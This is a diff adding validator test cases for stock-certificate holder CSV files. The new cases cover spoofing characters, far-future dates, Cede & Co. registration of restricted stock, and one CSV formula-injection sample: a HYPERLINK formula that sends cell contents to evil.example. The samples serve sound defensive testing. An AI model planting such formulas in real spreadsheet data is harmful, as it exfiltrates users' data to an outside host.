@@ -7,6 +7,7 @@ fails when a rule is added without a breaking and a passing case.
 from __future__ import annotations
 
 import copy
+import datetime as dt
 import json
 from collections.abc import Callable
 from pathlib import Path
@@ -25,6 +26,9 @@ Mutation = Callable[[dict[str, Any]], None]
 
 HEADER = "certificate_number,registration,shares,issue_date\n"
 GOOD_ROW = "PB 0001,Jane Doe,100,2026-11-23\n"
+
+#: A date further ahead than any certificate may be dated (issue_dates.days_ahead).
+FAR_AHEAD = (dt.date.today() + dt.timedelta(days=400)).isoformat()
 
 SECURITIES_ACT = (
     "THE SECURITIES REPRESENTED HEREBY HAVE NOT BEEN REGISTERED UNDER THE SECURITIES ACT OF 1933, AS "
@@ -579,6 +583,49 @@ HOLDER_CASES: dict[str, tuple[str, str, str, str, Mutation]] = {
         HEADER + GOOD_ROW,
         _nothing,
     ),
+    "holder.characters": (
+        HEADER + "PB 0001,Jane Doe\u202e,100,2026-11-23\n",
+        "error",
+        "U+202E RIGHT-TO-LEFT OVERRIDE (character 9)",
+        HEADER + "PB 0001,Jane\u00a0Doe,100,2026-11-23\n",  # a no-break space is a space
+        _nothing,
+    ),
+    "holder.formula": (
+        HEADER + 'PB 0001,"=HYPERLINK(""http://evil.example/?d=""&A1,""Jane Doe"")",100,2026-11-23\n',
+        "error",
+        "begins with '=', as a spreadsheet formula does",
+        HEADER.replace("\n", ",telephone\n") + "PB 0001,Jane Doe,100,2026-11-23,+1 (212) 555-0100\n",
+        _nothing,
+    ),
+    "holder.mixed-script": (
+        HEADER + "PB 0001,J\u0430ne Doe,100,2026-11-23\n",  # a Cyrillic a
+        "warning",
+        "the word 'J\u0430ne' mixes Latin and Cyrillic letters (U+0430 CYRILLIC SMALL LETTER A)",
+        HEADER
+        + "PB 0001,\u0418\u0432\u0430\u043d \u041f\u0435\u0442\u0440\u043e\u0432 & Jane Doe JT TEN,100,2026-11-23\n",
+        _nothing,
+    ),
+    "fields.printable": (
+        HEADER + "PB 0001,\u5f20\u4f1f,100,2026-11-23\n",
+        "error",
+        "U+5F20 CJK UNIFIED IDEOGRAPH-5F20",
+        HEADER + "PB 0001,Nguy\u1ec5n Th\u1ecb Minh Khai,100,2026-11-23\n",  # Vietnamese: EB Garamond has it
+        _nothing,
+    ),
+    "holder.issue-date-future": (
+        HEADER + f"PB 0001,Jane Doe,100,{FAR_AHEAD}\n",
+        "error",
+        "a certificate may be dated at most 31 days ahead (issue_dates.days_ahead)",
+        HEADER + f"PB 0001,Jane Doe,100,{dt.date.today().isoformat()}\n",
+        _nothing,
+    ),
+    "registration.cede-restricted": (
+        HEADER + "PB 0001,CEDE & CO.,100,2026-11-23\n",
+        "warning",
+        "restricted (legend 'private-placement', legends[3]): legended stock is rarely DTC-eligible",
+        HEADER + GOOD_ROW,
+        lambda d: d["legends"].append({"name": "private-placement", "text": SECURITIES_ACT}),
+    ),
     "signatures.officer-term": (
         HEADER + GOOD_ROW,
         "warning",
@@ -801,6 +848,7 @@ def test_every_rule_is_tested() -> None:
     tested = set(SPEC_CASES) | set(HOLDER_CASES) | set(PDF_CASES) | set(NOTE_CASES) | set(WARRANT_CASES)
     tested |= {"pdf.readable", "pdf.holder-data", "pdf.schedule"}  # tests of their own
     tested |= {"form.excerpt"}  # test_samples.py: test_excerpt_never_issues_certificates
+    tested |= {"holder.issue-date-life"}  # test_holder_integrity.py: warrants and notes
     tested |= {
         "pdf_signature.keys"
     }  # test_pdf_signature.py: test_validate_reports_a_bad_signing_setup_as_a_rule
